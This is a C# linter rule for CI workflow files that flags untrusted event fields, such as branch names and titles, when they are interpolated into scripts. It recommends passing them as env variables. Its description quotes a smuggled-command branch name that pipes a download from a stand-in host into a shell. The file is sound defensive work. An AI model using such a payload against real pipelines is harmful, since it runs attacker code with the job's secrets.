namespace Pipeline.Workflows.Rules.Security;

internal sealed class UntrustedInput() : Rule(
    "untrusted-input",
    "Titles, texts, branch names and other parts of an event that strangers fill in never stand where they become code",
    "A branch named `$(curl evil.example|sh)` runs with the job's token and secrets",
    Sources.Actionlint + "untrusted-inputs")
{
    public override IEnumerable<Remark> Check(Inspection file) =>
        from usage in file.Usages
        where Scripts.IsScript(usage) || Scripts.IsCommand(usage)
        from reference in usage.References
        where Untrusted.Is(reference)
        select new Remark(
            usage.At(file, reference.Offset), $"`{reference}` is written by strangers and becomes code here",
            "hand it over as a variable of `env`, and use the variable in double quotes");
}
